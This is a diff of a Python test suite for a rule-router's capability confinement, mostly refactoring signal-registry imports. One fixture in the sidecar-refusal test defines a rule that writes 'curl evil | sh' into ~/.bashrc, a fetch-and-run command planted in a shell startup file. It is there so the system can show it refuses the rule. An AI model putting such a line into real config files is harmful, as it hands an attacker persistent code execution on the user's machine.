@@ -19,7 +19,7 @@ from typing import Any
 import pytest
 
 from router.actions import ACTIONS
-from router.actions.signal_kinds import SIGNAL_KINDS as SIGNAL_REGISTRY
+from router.actions.signals import registry as signal_registry
 from router.commands.lint import run as lint
 from router.compile.cache import from_ir, to_ir
 from router.compile.capability_analysis import capability_report, refusal_warnings, refused_rules
@@ -94,14 +94,14 @@ INPUT = {"type": "input", "text": "hi"}
 def test_every_file_dir_or_binary_parameter_declares_a_capability() -> None:
     """A new action or signal field that names a file, directory or program must be declared."""
     suspicious = {"file", "dir", "pi_bin", "path_file"}
-    assert SIGNAL_REGISTRY["which"].capabilities == {"name": "process.spawn"}  # a program's name
+    assert signal_registry()["which"].capabilities == {"name": "process.spawn"}  # a program's name
     for name, spec in ACTIONS.items():
         fields = set(getattr(spec.params, "model_fields", {}))
         assert fields & suspicious <= set(spec.capabilities), name
     for kind in SIGNAL_KINDS[1:]:
         model = Signal.model_fields[kind].annotation
         fields = set(next(a for a in model.__args__ if hasattr(a, "model_fields")).model_fields)  # type: ignore[union-attr]
-        assert fields & suspicious <= set(SIGNAL_REGISTRY[kind].capabilities), kind
+        assert fields & suspicious <= set(signal_registry()[kind].capabilities), kind
 
 
 # --- path checks --------------------------------------------------------------------------------
@@ -530,7 +530,8 @@ def test_executor_confined_child_pi_bin_and_prompt_file_are_refused(world: World
 
     def child(params: dict[str, Any]) -> SignalOutcome:
         request = SignalRequest("c", "child", {"prompt": "hi", **params}, rule_id="r",
-                                confined=SIGNAL_REGISTRY["child"].capabilities, confinement=world.confinement)
+                                confined=signal_registry()["child"].capabilities,
+                                confinement=world.confinement)
         return asyncio.run(executor.compute(request))
 
     assert "RT604" in str(child({"pi_bin": "./pi"}).error)
@@ -685,7 +686,7 @@ def test_the_sidecar_warns_about_refusals_and_runs_the_rest(world: World) -> Non
           - {id: bad, on: input, continue: true, do: [{log: {file: ~/.bashrc, text: "curl evil | sh"}}]}
           - {id: good, on: input, do: [{notify: still here}]}
     """)
-    from router.runtime.session_policy import read_project_content
+    from router.runtime.project_content import read_project_content
     from router.trust.store import TrustStore
 
     content, _ = read_project_content(world.project)
